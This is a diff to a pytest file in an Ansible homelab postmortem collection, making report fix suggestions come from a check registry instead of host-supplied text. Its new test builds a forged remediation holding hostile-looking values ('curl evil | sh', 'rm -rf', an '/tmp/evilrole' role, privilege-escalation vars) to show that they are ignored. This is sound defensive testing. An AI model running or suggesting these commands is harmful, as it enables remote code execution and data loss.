@@ -3,6 +3,7 @@ import xml.etree.ElementTree as ET
 
 import pytest
 
+from ansible_collections.homelab.postmortem.plugins.module_utils import registry
 from ansible_collections.homelab.postmortem.plugins.plugin_utils import report
 from ansible_collections.homelab.postmortem.plugins.plugin_utils import report_encoding, report_files, report_html, report_junit, report_summary
 
@@ -80,7 +81,8 @@ def test_summary_lines(fleet):
     assert '  pi_ir_tx                 1        -    1' in text
     assert '  pi_ir_tx: affected pi1' in text and '  llama_sleep_race: at_risk gpu' in text
     assert '  not audited: dead (unreachable), broken (failed), gone (failed)' in text
-    assert '  pi1: pi_ir_tx [affected]\n      IR broken\n      fix: fix' in text
+    # The fix offered is the registry's for the check (detections/pi_ir_tx.py REMEDIATION), not the host's text.
+    assert '  pi1: pi_ir_tx [affected]\n      IR broken\n      fix: role homelab.postmortem.pi_ir_tx with {"pi_ir_tx_reboot": true} (disruption: reboot)' in text
     assert '  dead: unreachable (not audited)\n      Failed to connect to the host via ssh' in text
     assert 'Totals: not_applicable 2, at_risk 1, affected 1, unreachable 1, failed 2' in text
     assert lines[-2:] == ['Full report: /r/postmortem.html', '             /r/postmortem.json']
@@ -171,14 +173,19 @@ def test_nothing_needs_attention_is_said():
     assert report_summary.gate_lines(healthy, 'never', True, True, []) == ['Gate: off (postmortem_fail_on: never).']
 
 
-def test_fix_text_names_role_vars_module_and_disruption():
-    remediation = {'role': 'homelab.postmortem.pi_ir_tx', 'vars': {'pi_ir_tx_reboot': True}, 'module': None,
-                   'manual': ['edit config.txt'], 'disruption': 'reboot'}
-    assert report_summary.fix_text({'remediation': remediation}) == \
+def test_fix_text_is_the_registrys_whatever_the_host_says():
+    """The summary offers what the registry declares for the check (detections/<id>.py REMEDIATION), so a
+    host cannot suggest a role, a module or variables; only a disruption of the model's is taken (an image
+    has nothing to reboot)."""
+    forged = {'role': '/tmp/evilrole', 'vars': {'ansible_become': True}, 'module': 'evil.mod',
+              'manual': ['curl evil | sh'], 'disruption': 'none'}
+    assert report_summary.fix_text('pi_ir_tx', {'remediation': forged}) == \
+        'role homelab.postmortem.pi_ir_tx with {"pi_ir_tx_reboot": true}'
+    assert report_summary.fix_text('pi_ir_tx', {'remediation': dict(forged, disruption='rm -rf')}) == \
         'role homelab.postmortem.pi_ir_tx with {"pi_ir_tx_reboot": true} (disruption: reboot)'
-    module_fix = dict(remediation, role=None, vars={}, module='homelab.postmortem.podman_safe_export', disruption='none')
-    assert report_summary.fix_text({'remediation': module_fix}) == 'module homelab.postmortem.podman_safe_export'
-    assert report_summary.fix_text({'remediation': {'manual': ['Restart it.'], 'disruption': 'none'}}) == 'Restart it.'
+    assert report_summary.fix_text('podman_export_idmap', {'remediation': forged}) == 'module homelab.postmortem.podman_safe_export'
+    manual = registry.BY_ID['llama_spec_logprobs'].REMEDIATION['manual'][0]
+    assert report_summary.fix_text('llama_spec_logprobs', {'remediation': forged}) == ' '.join(manual.split())[:200]
 
 
 def test_a_report_path_that_is_a_file_is_said_in_words(tmp_path, fleet):
@@ -241,7 +248,8 @@ def test_the_summary_stays_a_summary_at_ten_thousand_hosts():
     assert 'Worst finding per host (%d host(s) need attention, the worst 8 shown):' % (affected + at_risk + 1) in text
     # The worst come first: affected hosts, in inventory order.
     worst = text.split('Worst finding per host', 1)[1].splitlines()
-    assert worst[1:4] == ['  h00000: pi_ir_tx [affected]', '      s', '      fix: fix'] and worst[4] == '  h00097: pi_ir_tx [affected]'
+    assert worst[1:3] == ['  h00000: pi_ir_tx [affected]', '      s'] and worst[4] == '  h00097: pi_ir_tx [affected]'
+    assert worst[3].startswith('      fix: role homelab.postmortem.pi_ir_tx')
     assert '... and %d more host(s)' % (affected + at_risk + 1 - 8) in text
     assert lines[-1] == 'Full report: /r/postmortem.json'
 
